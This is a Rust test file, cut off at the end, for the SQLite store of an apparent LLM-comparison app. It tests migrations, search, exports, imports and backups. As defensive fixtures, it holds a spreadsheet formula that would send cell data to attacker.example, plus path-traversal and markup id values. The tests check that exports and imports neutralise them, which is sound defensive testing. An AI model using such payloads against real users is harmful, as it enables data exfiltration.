//! The store against real SQLite files: migrations, refusal of what it cannot read, history
//! round trips, settings.

use parallax_llm::{ErrorCode, Usage};
use parallax_store::*;

fn new_comparison(prompt: &str, models: &[&str]) -> NewComparison {
    NewComparison {
        parent_id: None,
        prompt: prompt.into(),
        system: None,
        slots: models
            .iter()
            .map(|m| NewSlot {
                provider: "openrouter".into(),
                model: (*m).into(),
                ..Default::default()
            })
            .collect(),
    }
}

#[test]
fn a_new_database_is_migrated_to_the_current_version() {
    let dir = tempfile::tempdir().unwrap();
    let store = Store::open_in_dir(dir.path()).unwrap();
    assert!(store.path().ends_with(DB_FILE));
    let conn = rusqlite::Connection::open(store.path()).unwrap();
    let v: i64 = conn
        .query_row("PRAGMA user_version", [], |r| r.get(0))
        .unwrap();
    assert_eq!(v, SCHEMA_VERSION);
    let mode: String = conn
        .query_row("PRAGMA journal_mode", [], |r| r.get(0))
        .unwrap();
    assert_eq!(mode, "wal");
    drop(store);
    Store::open_in_dir(dir.path()).expect("reopening a current database is a no-op");
}

#[test]
fn a_database_from_a_newer_version_is_refused_and_left_untouched() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join(DB_FILE);
    {
        let conn = rusqlite::Connection::open(&path).unwrap();
        conn.execute_batch(&format!(
            "CREATE TABLE future (x); PRAGMA user_version = {};",
            SCHEMA_VERSION + 1
        ))
        .unwrap();
    }
    let before = std::fs::read(&path).unwrap();
    let err = Store::open(&path)
        .err()
        .expect("a newer schema must be refused");
    assert_eq!(err.code(), "database_too_new");
    let msg = err.to_string();
    assert!(msg.contains("newer version of Parallax"), "{msg}");
    assert!(
        msg.contains(&path.display().to_string()),
        "the message names the file: {msg}"
    );
    assert_eq!(
        std::fs::read(&path).unwrap(),
        before,
        "the file must not change"
    );
    assert!(
        !dir.path().join("parallax.db-wal").exists(),
        "not even a WAL file"
    );
}

#[test]
fn a_corrupt_file_gives_a_clear_error_and_is_kept() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join(DB_FILE);
    let junk = b"this is not a database, it is a shopping list: eggs, milk".repeat(100);
    std::fs::write(&path, &junk).unwrap();
    let err = Store::open(&path).err().expect("junk must be refused");
    assert_eq!(err.code(), "database_corrupt");
    assert!(err.to_string().contains("left untouched"), "{err}");
    assert_eq!(std::fs::read(&path).unwrap(), junk, "never modified");
}

#[test]
fn comparison_round_trip_keeps_unknowns_unknown() {
    let store = Store::open_in_memory().unwrap();
    let c = store
        .create_comparison(
            &new_comparison("Why is the sky blue?\nBe brief.", &["a/x", "b/y", "a/x"]),
            1_700_000_000_000,
        )
        .unwrap();
    assert_eq!(c.title, "Why is the sky blue?");
    assert_eq!(c.slots.len(), 3, "the same model may appear twice");

    store
        .save_partial(&c.slots[0].id, SlotStatus::Streaming, "Rayleigh", "")
        .unwrap();
    let mid = store.get_comparison(&c.id).unwrap();
    assert_eq!(
        mid.slots[0].text, "Rayleigh",
        "partial text is readable mid-run"
    );
    assert_eq!(mid.slots[0].status, SlotStatus::Streaming);

    let mut done = c.slots[0].clone();
    done.status = SlotStatus::Done;
    done.text = "Rayleigh scattering.".into();
    done.ttft_ms = Some(120);
    done.total_ms = Some(900);
    done.usage = Usage {
        input_tokens: Some(9),
        output_tokens: Some(3),
        ..Default::default()
    };
    done.cost = Cost {
        usd: Some(0.00012),
        source: CostSource::Billed,
    };
    let raw = serde_json::json!({"prompt_tokens": 9, "completion_tokens": 3, "cost": 0.00012});
    store
        .finish_slot(
            &done,
            Some(&raw),
            (Some(1.0), Some(2.0)),
            1_700_000_001_000,
            None,
        )
        .unwrap();

    let mut failed = c.slots[1].clone();
    failed.status = SlotStatus::Failed;
    failed.error = Some(SlotError {
        code: ErrorCode::RateLimited,
        message: "slow down".into(),
    });
    store
        .finish_slot(&failed, None, (None, None), 1_700_000_001_000, None)
        .unwrap();

    let back = store.get_comparison(&c.id).unwrap();
    assert_eq!(
        back.slots[0],
        SlotRecord {
            usage: Usage {
                cost_usd: None,
                ..done.usage.clone()
            },
            // Read back with its speed: 3 tokens from TTFT 120 ms to 900 ms, no chunk count
            // (no first-chunk correction): 3 / 0.78 s.
            speed: Speed {
                tokens_per_second: Some(3.0 * 1000.0 / 780.0),
                basis: SpeedBasis::Generation,
            },
            ..done.clone()
        }
    );
    assert_eq!(
        back.slots[1].error.as_ref().unwrap().code,
        ErrorCode::RateLimited
    );
    assert_eq!(
        back.slots[1].usage.output_tokens, None,
        "unknown tokens stay NULL, not 0"
    );
    assert_eq!(
        back.slots[1].cost,
        Cost::UNKNOWN,
        "unknown cost stays unknown, not $0"
    );
    assert_eq!(back.slots[2].status, SlotStatus::Pending);

    let list = store.list_comparisons(10, None).unwrap();
    assert_eq!(list.len(), 1);
    assert_eq!(list[0].models, vec!["a/x", "b/y", "a/x"]);
    assert_eq!(list[0].failed_slots, 1);
    assert_eq!(list[0].total_cost_usd, Some(0.00012));
    assert!(list[0].cost_incomplete, "two slots have no known cost");
}

#[test]
fn history_lists_newest_first_with_keyset_pages() {
    let store = Store::open_in_memory().unwrap();
    let ids: Vec<String> = (0..5)
        .map(|i| {
            store
                .create_comparison(&new_comparison(&format!("p{i}"), &["m"]), 1000 + i)
                .unwrap()
                .id
        })
        .collect();
    let page1 = store.list_comparisons(2, None).unwrap();
    assert_eq!(
        page1.iter().map(|c| c.title.as_str()).collect::<Vec<_>>(),
        ["p4", "p3"]
    );
    let page2 = store.list_comparisons(2, Some(&page1[1].id)).unwrap();
    assert_eq!(
        page2.iter().map(|c| c.title.as_str()).collect::<Vec<_>>(),
        ["p2", "p1"]
    );
    let err = store.get_comparison("nope").unwrap_err();
    assert_eq!(err.code(), "not_found");
    assert_eq!(ids.len(), 5);
}

#[test]
fn settings_set_overwrite_and_clear() {
    let store = Store::open_in_memory().unwrap();
    assert_eq!(store.get_setting("openrouter.base_url").unwrap(), None);
    store
        .set_setting("openrouter.base_url", Some("http://a"))
        .unwrap();
    store
        .set_setting("openrouter.base_url", Some("http://b"))
        .unwrap();
    assert_eq!(
        store.get_setting("openrouter.base_url").unwrap().as_deref(),
        Some("http://b")
    );
    store.set_setting("openrouter.base_url", None).unwrap();
    assert_eq!(store.get_setting("openrouter.base_url").unwrap(), None);
}

#[test]
fn long_titles_are_cut_at_a_word() {
    let t = derive_title(&"word ".repeat(40));
    assert!(t.ends_with('…') && t.chars().count() <= 81, "{t}");
    assert_eq!(derive_title("\n\n  hello  \nworld"), "hello");
}

#[test]
fn a_version_1_database_is_migrated_and_keeps_its_history() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join(DB_FILE);
    {
        // Exactly what version 1 of Parallax created.
        let conn = rusqlite::Connection::open(&path).unwrap();
        conn.execute_batch(include_str!("../migrations/0001_init.sql"))
            .unwrap();
        conn.execute_batch(
            "PRAGMA user_version = 1;
             INSERT INTO comparisons (id, title, prompt, created_at) VALUES ('c1', 'old', 'old prompt', 1);
             INSERT INTO slots (id, comparison_id, idx, provider, model, status, text, output_tokens)
               VALUES ('s1', 'c1', 0, 'openrouter', 'a/x', 'done', 'old answer', 12);",
        )
        .unwrap();
    }
    let store = Store::open(&path).unwrap();
    let c = store.get_comparison("c1").unwrap();
    assert_eq!(c.slots[0].text, "old answer");
    assert_eq!(c.slots[0].usage.output_tokens, Some(12));
    assert!(
        c.slots[0].notes.is_empty(),
        "the new column reads as no notes"
    );
    assert!(
        store.list_endpoints().unwrap().is_empty(),
        "the endpoints table exists"
    );
    let v: i64 = rusqlite::Connection::open(&path)
        .unwrap()
        .query_row("PRAGMA user_version", [], |r| r.get(0))
        .unwrap();
    assert_eq!(v, SCHEMA_VERSION);
}

#[test]
fn a_database_of_every_earlier_version_is_migrated_and_keeps_its_history() {
    for version in 1..SCHEMA_VERSION {
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join(DB_FILE);
        {
            let conn = rusqlite::Connection::open(&path).unwrap();
            create_at_version(&conn, version).unwrap();
            // Columns every version had.
            conn.execute_batch(
                "INSERT INTO comparisons (id, title, prompt, created_at) VALUES ('c1', 'old', 'old prompt', 1);
                 INSERT INTO slots (id, comparison_id, idx, provider, model, status, text, output_tokens, cost_usd, cost_source)
                   VALUES ('s1', 'c1', 0, 'openrouter', 'a/x', 'done', 'old answer', 12, 0.5, 'billed');
                 INSERT INTO settings (key, value) VALUES ('k', 'v');",
            )
            .unwrap();
        }
        let store = Store::open(&path).unwrap_or_else(|e| panic!("from version {version}: {e}"));
        let c = store.get_comparison("c1").unwrap();
        assert_eq!(c.slots[0].text, "old answer", "from version {version}");
        assert_eq!(c.slots[0].cost.usd, Some(0.5), "from version {version}");
        assert_eq!(store.get_setting("k").unwrap().as_deref(), Some("v"));
        assert_eq!(
            store
                .search("answer", &HistoryFilter::default(), 10, None)
                .unwrap()
                .hits
                .len(),
            1,
            "from version {version}: old answers are searchable"
        );
        assert!(c.tags.is_empty() && c.votes.is_empty() && c.notes.is_empty());
        store.check_search_index().unwrap();
    }
}

#[test]
fn custom_endpoints_are_added_replaced_and_removed() {
    let store = Store::open_in_memory().unwrap();
    let e = CustomEndpoint {
        name: "lmstudio".into(),
        base_url: "http://127.0.0.1:1234/v1".into(),
        headers: vec![],
        key_header: None,
    };
    store.upsert_endpoint(&e, 1).unwrap();
    store
        .upsert_endpoint(
            &CustomEndpoint {
                base_url: "http://127.0.0.1:9999/v1".into(),
                ..e.clone()
            },
            2,
        )
        .unwrap();
    assert_eq!(
        store.list_endpoints().unwrap().len(),
        1,
        "same name replaces"
    );
    assert_eq!(
        store.get_endpoint("lmstudio").unwrap().unwrap().base_url,
        "http://127.0.0.1:9999/v1"
    );
    assert!(store.remove_endpoint("lmstudio").unwrap());
    assert!(
        !store.remove_endpoint("lmstudio").unwrap(),
        "removing twice says it was not there"
    );
}

#[test]
fn only_slots_of_a_dead_owner_are_marked_interrupted() {
    let dir = tempfile::tempdir().unwrap();
    let live = Store::open_in_dir(dir.path()).unwrap();
    let c = live
        .create_comparison(&new_comparison("p", &["a/x"]), 1)
        .unwrap();
    live.save_partial(&c.slots[0].id, SlotStatus::Streaming, "half an answ", "")
        .unwrap();

    // Another process (here: another open) starting up must not touch a live owner's slots.
    let other = Store::open_in_dir(dir.path()).unwrap();
    assert_eq!(
        other.recover_interrupted(2).unwrap(),
        0,
        "the owner is alive"
    );
    assert_eq!(
        other.get_comparison(&c.id).unwrap().slots[0].status,
        SlotStatus::Streaming
    );

    // The owner goes away (its lock is released, as when a process dies).
    drop(live);
    let after = Store::open_in_dir(dir.path()).unwrap();
    assert_eq!(after.recover_interrupted(3).unwrap(), 1);
    let s = &after.get_comparison(&c.id).unwrap().slots[0];
    assert_eq!(s.status, SlotStatus::Interrupted);
    assert_eq!(s.text, "half an answ", "partial text kept");
    assert_eq!(
        s.error.as_ref().unwrap().code,
        parallax_llm::ErrorCode::StreamInterrupted
    );
    assert_eq!(after.recover_interrupted(4).unwrap(), 0, "idempotent");
    drop(other);
}

#[test]
fn two_processes_creating_the_database_at_once_both_succeed() {
    // The app and the CLI started together on a fresh data directory.
    for _ in 0..10 {
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().to_owned();
        let threads: Vec<_> = (0..4)
            .map(|_| {
                let p = path.clone();
                std::thread::spawn(move || {
                    Store::open_in_dir(&p)
                        .map(|_| ())
                        .map_err(|e| e.to_string())
                })
            })
            .collect();
        for t in threads {
            t.join().unwrap().expect("every concurrent open succeeds");
        }
    }
}

#[test]
fn search_finds_prompts_and_answers_and_stays_in_sync() {
    let store = Store::open_in_memory().unwrap();
    let c = store
        .create_comparison(&new_comparison("Why is the sky blue?", &["a/x", "b/y"]), 1)
        .unwrap();
    store
        .save_partial(&c.slots[0].id, SlotStatus::Streaming, "Rayleigh scatt", "")
        .unwrap();
    assert!(
        store
            .search("Rayleigh", &HistoryFilter::default(), 10, None)
            .unwrap()
            .hits
            .is_empty(),
        "an answer is indexed once it is final, not while it streams"
    );
    store.check_search_index().expect("in sync mid-stream");
    let mut done = c.slots[0].clone();
    done.status = SlotStatus::Done;
    done.text = "Rayleigh scattering makes short wavelengths dominate.".into();
    store
        .finish_slot(&done, None, (None, None), 2, None)
        .unwrap();
    // A partial save arriving after the final one changes nothing.
    store
        .save_partial(&c.slots[0].id, SlotStatus::Streaming, "Rayleigh scatt", "")
        .unwrap();
    let back = store.get_comparison(&c.id).unwrap();
    assert_eq!(back.slots[0].status, SlotStatus::Done);
    assert_eq!(back.slots[0].text, done.text);
    // A stopped answer's partial text is searchable once it is final.
    store
        .save_partials(&[parallax_store::PartialAnswer {
            slot_id: c.slots[1].id.clone(),
            text: "azure glow".into(),
            ..Default::default()
        }])
        .unwrap();
    let mut stopped = c.slots[1].clone();
    stopped.status = SlotStatus::Cancelled;
    stopped.text = "azure glow".into();
    store
        .finish_slot(&stopped, None, (None, None), 2, None)
        .unwrap();
    assert_eq!(
        store
            .search("azure", &HistoryFilter::default(), 10, None)
            .unwrap()
            .hits
            .len(),
        1
    );

    let hits = store
        .search("scattering", &HistoryFilter::default(), 10, None)
        .unwrap()
        .hits;
    assert_eq!(hits.len(), 1, "the final text is indexed");
    assert_eq!(
        (hits[0].slot_index, hits[0].model.as_str()),
        (0, "a/x"),
        "the hit points to the slot"
    );
    assert!(
        hits[0].snippet.contains("«scattering»"),
        "{}",
        hits[0].snippet
    );
    assert!(
        store
            .search("scatt", &HistoryFilter::default(), 10, None)
            .unwrap()
            .hits
            .is_empty(),
        "partial text was replaced, not kept"
    );
    let sky = store
        .search("sky", &HistoryFilter::default(), 10, None)
        .unwrap();
    assert_eq!(sky.hits.len(), 2, "the prompt is searchable for every slot");
    // Grouped: one comparison with its date, both columns, the repeated snippet said once.
    assert_eq!(sky.groups.len(), 1);
    let g = &sky.groups[0];
    assert_eq!(
        (g.comparison_id.as_str(), g.created_at_ms),
        (c.id.as_str(), 1)
    );
    assert_eq!(g.answers.len(), 2);
    assert!(g.answers[0].snippet.as_deref().unwrap().contains("«sky»"));
    assert_eq!(
        store
            .search("Rayl*", &HistoryFilter::default(), 10, None)
            .unwrap()
            .hits
            .len(),
        1,
        "prefix search"
    );
    for weird in ["\"", "AND OR NOT", "sky\" OR \"x", "(", "*", "  "] {
        store
            .search(weird, &HistoryFilter::default(), 10, None)
            .unwrap_or_else(|e| panic!("{weird:?} must not be a syntax error: {e}"));
    }
    store
        .check_search_index()
        .expect("index in sync after inserts and updates");

    store.delete_comparison(&c.id).unwrap();
    assert!(
        store
            .search("sky", &HistoryFilter::default(), 10, None)
            .unwrap()
            .hits
            .is_empty(),
        "deleted with its comparison"
    );
    store
        .check_search_index()
        .expect("index in sync after a delete");
    assert_eq!(
        store.delete_comparison(&c.id).unwrap_err().code(),
        "not_found"
    );
}

#[test]
fn exports_as_markdown_json_and_csv_keep_unknowns_unknown() {
    let store = Store::open_in_memory().unwrap();
    let c = store
        .create_comparison(
            &new_comparison("Compare, \"quoted\"\nand multi-line", &["a/x", "b|y"]),
            1,
        )
        .unwrap();
    let mut done = c.slots[0].clone();
    done.status = SlotStatus::Done;
    done.text = "Answer with, commas\nand \"quotes\"".into();
    done.ttft_ms = Some(100);
    done.total_ms = Some(1100);
    done.usage = Usage {
        input_tokens: Some(5),
        output_tokens: Some(50),
        ..Default::default()
    };
    done.cost = Cost {
        usd: Some(0.0001),
        source: CostSource::Billed,
    };
    store
        .finish_slot(&done, None, (None, None), 2, None)
        .unwrap();
    let mut failed = c.slots[1].clone();
    failed.status = SlotStatus::Failed;
    failed.error = Some(SlotError {
        code: ErrorCode::RateLimited,
        message: "slow down".into(),
    });
    store
        .finish_slot(&failed, None, (None, None), 2, None)
        .unwrap();
    let c = store.get_comparison(&c.id).unwrap();

    let md = export::to_markdown(&c);
    assert!(
        md.contains("| 0 | a/x | done | 100 ms | 1100 ms | 50.0 | 5 | 50 | $0.000100 (billed) |"),
        "{md}"
    );
    assert!(
        md.contains("| 1 | b\\|y | failed | — | — | — | — | — | — |"),
        "a pipe in a name cannot break the table; unknowns are dashes: {md}"
    );
    assert!(md.contains("> **rate_limited:** slow down"));

    let json: serde_json::Value = serde_json::from_str(&export::to_json(&c)).unwrap();
    assert_eq!(json["parallax_export"], export::EXPORT_FORMAT);
    assert_eq!(
        json["comparison"]["slots"][1]["cost"]["usd"],
        serde_json::Value::Null,
        "unknown stays null"
    );
    assert_eq!(
        json["comparison"]["slots"][0]["text"],
        "Answer with, commas\nand \"quotes\""
    );

    let csv = export::to_csv(&c);
    let mut r = csv::Reader::from_reader(csv.as_bytes());
    let header = r.headers().unwrap().clone();
    let col = |name: &str| header.iter().position(|h| h == name).unwrap();
    let rows: Vec<csv::StringRecord> = r.records().map(Result::unwrap).collect();
    assert_eq!(rows.len(), 2, "one row per answer");
    assert_eq!(
        &rows[0][col("text")],
        "Answer with, commas\nand \"quotes\"",
        "commas, quotes and newlines survive"
    );
    assert_eq!(
        &rows[1][col("cost_usd")],
        "",
        "unknown cost is empty, not 0"
    );
    assert_eq!(&rows[1][col("error_code")], "rate_limited");
    assert_eq!(
        &rows[1][col("speed_basis")],
        "unknown",
        "a failed answer has no speed"
    );
}

#[test]
fn export_then_import_is_lossless_and_a_bad_file_imports_nothing() {
    let a = Store::open_in_memory().unwrap();
    let c = a
        .create_comparison(&new_comparison("Round trip", &["a/x", "b/y"]), 42)
        .unwrap();
    let mut done = c.slots[0].clone();
    done.status = SlotStatus::Done;
    done.text = "kept".into();
    done.reasoning = "thought".into();
    done.ttft_ms = Some(10);
    done.total_ms = Some(20);
    done.usage = Usage {
        input_tokens: Some(1),
        output_tokens: Some(2),
        reasoning_tokens: Some(1),
        ..Default::default()
    };
    done.cost = Cost {
        usd: Some(0.5),
        source: CostSource::Computed,
    };
    done.notes = vec![parallax_llm::ParamNote::dropped("seed", "no seed here")];
    done.attempts = Some(2);
    a.finish_slot(&done, None, (None, None), 43, None).unwrap();
    let mut failed = c.slots[1].clone();
    failed.status = SlotStatus::Failed;
    failed.error = Some(SlotError {
        code: ErrorCode::Timeout,
        message: "late".into(),
    });
    a.finish_slot(&failed, None, (None, None), 43, None)
        .unwrap();
    let original = a.get_comparison(&c.id).unwrap();
    let file = export::to_json(&original);

    let b = Store::open_in_memory().unwrap();
    b.import_comparison(&export::parse_json(&file).unwrap())
        .unwrap();
    assert_eq!(
        b.get_comparison(&c.id).unwrap(),
        original,
        "every field survives the round trip"
    );
    assert_eq!(
        b.search("kept", &HistoryFilter::default(), 10, None)
            .unwrap()
            .hits
            .len(),
        1,
        "and it is searchable"
    );
    assert!(
        matches!(
            b.import_comparison(&original),
            Err(export::ImportError::AlreadyThere(_))
        ),
        "no duplicates"
    );

    assert!(matches!(
        export::parse_json("not json"),
        Err(export::ImportError::NotAnExport(_))
    ));
    assert!(matches!(
        export::parse_json(r#"{"hello": 1}"#),
        Err(export::ImportError::NotAnExport(_))
    ));
    let newer = file.replacen("\"parallax_export\": 1", "\"parallax_export\": 99", 1);
    let err = export::parse_json(&newer).unwrap_err();
    assert!(err.to_string().contains("newer Parallax"), "{err}");

    // Two slots with one id: the second insert fails, and the first must not stay behind.
    let mut broken = original.clone();
    broken.id = "01BROKENBROKENBROKENBROKEN".into();
    broken.slots[1].id = broken.slots[0].id.clone();
    let c2 = Store::open_in_memory().unwrap();
    assert!(c2.import_comparison(&broken).is_err());
    assert!(
        c2.list_comparisons(10, None).unwrap().is_empty(),
        "nothing half-imported"
    );
    assert!(c2
        .search("kept", &HistoryFilter::default(), 10, None)
        .unwrap()
        .hits
        .is_empty());

    // Ids are checked when the file is read: not a path, markup or a 10 kB string.
    for (bad, what) in [
        ("../../etc/passwd", "the comparison's id"),
        ("<img src=x>", "the comparison's id"),
        (&"A".repeat(65)[..], "the comparison's id"),
    ] {
        let doc = file.replacen(
            &format!("\"id\": \"{}\"", c.id),
            &format!("\"id\": {:?}", bad),
            1,
        );
        let err = export::parse_json(&doc).unwrap_err().to_string();
        assert!(
            err.contains(what) && err.contains("is not an id"),
            "{bad}: {err}"
        );
    }
    let twice = export::to_json(&broken);
    let err = export::parse_json(&twice).unwrap_err().to_string();
    assert!(
        err.contains("slot 1 has the id of an earlier slot"),
        "{err}"
    );

    // A follow-up whose parent is neither in the history nor earlier in the import: refused
    // with the reason (it was SQLite's bare "FOREIGN KEY constraint failed").
    let mut orphan = original.clone();
    orphan.id = "01ORPHANORPHANORPHANORPHAN".into();
    orphan.parent_id = Some("01PARENTPARENTPARENTPARENT".into());
    for (i, s) in orphan.slots.iter_mut().enumerate() {
        s.id = format!("01ORPHANSLOT{i}");
    }
    let c3 = Store::open_in_memory().unwrap();
    let err = c3.import_comparison(&orphan).unwrap_err().to_string();
    assert!(
        err.contains("is a follow-up of 01PARENTPARENTPARENTPARENT")
            && !err.contains("FOREIGN KEY"),
        "{err}"
    );
    // With its parent first in the same import, it goes in.
    let mut parent = original.clone();
    parent.id = "01PARENTPARENTPARENTPARENT".into();
    for (i, s) in parent.slots.iter_mut().enumerate() {
        s.id = format!("01PARENTSLOT{i}");
    }
    c3.import_comparisons(&[parent, orphan]).unwrap();
    assert_eq!(c3.list_comparisons(10, None).unwrap().len(), 2);
}

#[test]
fn backup_copies_the_database_and_never_overwrites() {
    let dir = tempfile::tempdir().unwrap();
    let store = Store::open_in_dir(&dir.path().join("live")).unwrap();
    let c = store
        .create_comparison(&new_comparison("backed up", &["a/x"]), 1)
        .unwrap();
    let target = dir.path().join("backup.db");
    store.backup_to(&target).unwrap();
    let copy = Store::open(&target).unwrap();
    assert_eq!(copy.get_comparison(&c.id).unwrap().prompt, "backed up");
    assert!(
        store.backup_to(&target).is_err(),
        "an existing file is not replaced"
    );
}

#[test]
fn a_corrupt_database_is_moved_aside_only_on_request_and_only_when_corrupt() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join(DB_FILE);
    let missing = move_aside_if_corrupt(&path, 1).unwrap_err();
    assert!(missing.to_string().contains("no database"), "{missing}");

    drop(Store::open(&path).unwrap());
    let fine = move_aside_if_corrupt(&path, 1).unwrap_err();
    assert!(fine.to_string().contains("passes SQLite's check"), "{fine}");
    assert!(path.exists(), "a good database is never moved");

    let junk = b"not a database at all".repeat(500);
    std::fs::write(&path, &junk).unwrap();
    let moved = move_aside_if_corrupt(&path, 42).unwrap();
    assert_eq!(moved, dir.path().join("parallax.db.corrupt-42"));
    assert_eq!(
        std::fs::read(&moved).unwrap(),
        junk,
        "the old bytes are kept"
    );
    assert!(!path.exists());
    Store::open(&path).expect("a fresh history starts");
}

/// The one definition of tokens per second (`Speed::of`), on figures worked by hand.
#[test]
fn speed_is_honest_about_hidden_reasoning_chunks_and_short_spans() {
    let base = |out: u32, reasoning: Option<u32>| {
        let store = Store::open_in_memory().unwrap();
        let c = store
            .create_comparison(&new_comparison("p", &["o3"]), 1)
            .unwrap();
        let mut s = c.slots[0].clone();
        s.status = SlotStatus::Done;
        s.usage.output_tokens = Some(out);
        s.usage.reasoning_tokens = reasoning;
        s
    };
    // The issue's example: 1,500 hidden reasoning + 300 visible tokens, the visible phase 3 s
    // (TTFT 20 s, total 23 s), 300 one-token chunks: 300 × 299/300 over 3 s = 99.67 tok/s, not
    // 1,800 / 3 = 600.
    let mut s = base(1800, Some(1500));
    (s.ttft_ms, s.total_ms, s.output_chunks) = (Some(20_000), Some(23_000), Some(300));
    let v = Speed::of(&s);
    assert_eq!(v.basis, SpeedBasis::Visible);
    assert!(
        (v.tokens_per_second.unwrap() - 99.6667).abs() < 0.001,
        "{v:?}"
    );

    // Reasoning that was streamed counts, from the first reasoning token: 70 tokens, first
    // reasoning at 300 ms, end at 1,300 ms, 70 chunks: 70 × 69/70 / 1 s = 69 tok/s.
    let mut s = base(70, Some(30));
    s.reasoning = "Considering".into();
    (s.ttfr_ms, s.ttft_ms, s.total_ms, s.output_chunks) =
        (Some(300), Some(700), Some(1300), Some(70));
    let v = Speed::of(&s);
    assert_eq!(v.basis, SpeedBasis::Generation);
    assert!((v.tokens_per_second.unwrap() - 69.0).abs() < 1e-9, "{v:?}");

    // Big chunks: 60 tokens in 3 events of 20, first at 1,000 ms, last at 1,400 ms:
    // 60 × 2/3 / 0.4 s = 100 tok/s (all 60 over 0.4 s would say 150).
    let mut s = base(60, None);
    (s.ttft_ms, s.total_ms, s.output_chunks) = (Some(1000), Some(1400), Some(3));
    assert!((Speed::of(&s).tokens_per_second.unwrap() - 100.0).abs() < 1e-9);

    // Too short: 55 tokens in 2 ms, or in 2 chunks over a second.
    let mut s = base(55, None);
    (s.ttft_ms, s.total_ms, s.output_chunks) = (Some(40), Some(42), Some(55));
    assert_eq!(Speed::of(&s).basis, SpeedBasis::TooShort);
    assert_eq!(Speed::of(&s).tokens_per_second, None);
    (s.ttft_ms, s.total_ms, s.output_chunks) = (Some(40), Some(1040), Some(2));
    assert_eq!(Speed::of(&s).basis, SpeedBasis::TooShort);

    // Unknown: no usage, not done, or from the cache.
    let mut s = base(55, None);
    (s.ttft_ms, s.total_ms, s.output_chunks) = (Some(40), Some(1040), Some(55));
    s.usage.output_tokens = None;
    assert_eq!(Speed::of(&s).basis, SpeedBasis::Unknown);
    s.usage.output_tokens = Some(55);
    s.cached = true;
    assert_eq!(Speed::of(&s).basis, SpeedBasis::Unknown);
    s.cached = false;
    s.status = SlotStatus::Failed;
    assert_eq!(Speed::of(&s).basis, SpeedBasis::Unknown);
}

/// The runs of one prompt: the same prompt and system prompt, word for word, newest first;
/// another system prompt or a prompt that only starts the same is another prompt.
#[test]
fn runs_of_the_same_prompt_are_found_word_for_word() {
    let store = Store::open_in_memory().unwrap();
    let long = format!("{} then the question", "x".repeat(300));
    let first = store
        .create_comparison(&new_comparison("Why is the sky blue?", &["a/x"]), 1_000)
        .unwrap();
    let mut with_system = new_comparison("Why is the sky blue?", &["a/x"]);
    with_system.system = Some("Be brief.".into());
    store.create_comparison(&with_system, 2_000).unwrap();
    let again = store
        .create_comparison(&new_comparison("Why is the sky blue?", &["b/y"]), 3_000)
        .unwrap();
    store
        .create_comparison(&new_comparison("Why is the sky blue", &["a/x"]), 4_000)
        .unwrap();
    let l1 = store
        .create_comparison(&new_comparison(&long, &["a/x"]), 5_000)
        .unwrap();
    store
        .create_comparison(
            &new_comparison(&format!("{} then another one", "x".repeat(300)), &["a/x"]),
            6_000,
        )
        .unwrap();
    let runs = |id: &str| -> Vec<String> {
        let f = HistoryFilter {
            same_prompt_as: Some(id.into()),
            ..Default::default()
        };
        store
            .list_comparisons_where(&f, 100, None)
            .unwrap()
            .into_iter()
            .map(|c| c.id)
            .collect()
    };
    assert_eq!(runs(&first.id), [again.id.clone(), first.id.clone()]);
    assert_eq!(
        runs(&l1.id),
        vec![l1.id],
        "same first 256 characters, another prompt"
    );
}

/// Another process's comparison changes `others_version`; this process's own writes do not.
#[test]
fn a_comparison_saved_by_another_process_is_noticed() {
    let dir = tempfile::tempdir().unwrap();
    let app = Store::open_in_dir(dir.path()).unwrap();
    let v0 = app.others_version().unwrap();
    app.create_comparison(&new_comparison("mine", &["a/x"]), 1)
        .unwrap();
    assert_eq!(app.others_version().unwrap(), v0, "its own write");
    let cli = Store::open_in_dir(dir.path()).unwrap();
    cli.create_comparison(&new_comparison("from the CLI", &["a/x"]), 2)
        .unwrap();
    let v1 = app.others_version().unwrap();
    assert_ne!(v1, v0, "another connection's commit");
    assert_eq!(app.others_version().unwrap(), v1, "no change since");
}

#[test]
fn a_csv_export_never_hands_a_spreadsheet_a_formula() {
    let store = Store::open_in_memory().unwrap();
    let c = store
        .create_comparison(
            &NewComparison {
                prompt: "=1+1".into(),
                system: None,
                parent_id: None,
                slots: vec![NewSlot {
                    provider: "openrouter".into(),
                    model: "@evil/model".into(),
                    ..Default::default()
                }],
            },
            1_790_000_000_000,
        )
        .unwrap();
    let mut s = c.slots[0].clone();
    s.status = SlotStatus::Done;
    s.text = "=HYPERLINK(\"http://attacker.example/?\"&A1,\"click\")".into();
    store
        .finish_slot(&s, None, (None, None), 1_790_000_001_000, None)
        .unwrap();
    let csv = export::to_csv(&store.get_comparison(&c.id).unwrap());
    let mut r = csv::Reader::from_reader(csv.as_bytes());
    let header = r.headers().unwrap().clone();
    let col = |name: &str| header.iter().position(|h| h == name).unwrap();
    let row = r.records().next().unwrap().unwrap();
    assert_eq!(&row[col("title")], "'=1+1");
    assert_eq!(&row[col("model")], "'@evil/model");
    assert_eq!(
        &row[col("text")],
        "'=HYPERLINK(\"http://attacker.example/?\"&A1,\"click\")"
    );
    // Numbers and plain text are untouched.
    assert_eq!(&row[col("slot")], "0");
    assert_eq!(export::spreadsheet_safe("-0.25"), "-0.25");
    assert_eq!(export::spreadsheet_safe("- a list item"), "'- a list item");
    assert_eq!(export::spreadsheet_safe("plain"), "plain");
}

#[test]
fn a_word_most_answers_have_is_listed_newest_first_and_pages_keep_that_order() {
    // Five answers with "common"; the oldest says it most (BM25's best), the newest least.
    let store = Store::open_in_memory().unwrap();
    let texts = [
        "common common common common",
        "common common common filler",
        "common common filler filler",
        "common filler filler filler",
        "common filler filler filler filler filler filler",
    ];
    let mut ids = Vec::new();
    for (i, t) in texts.iter().enumerate() {
        let c = store
            .create_comparison(&new_comparison(&format!("Question {i}"), &["a/x"]), 1)
            .unwrap();
        let mut done = c.slots[0].clone();
        done.status = SlotStatus::Done;
        done.text = (*t).into();
        store
            .finish_slot(&done, None, (None, None), 2, None)
            .unwrap();
        ids.push(c.id);
    }
    let all = HistoryFilter::default();
    let order_of = |page: &parallax_store::SearchPage| -> Vec<usize> {
        page.hits
            .iter()
            .map(|h| ids.iter().position(|id| *id == h.comparison_id).unwrap())
            .collect()
    };

    // Up to the threshold: best first.
    let ranked = store.search_ordered("common", &all, 10, None, 5).unwrap();
    assert_eq!(ranked.order, SearchOrder::Relevance);
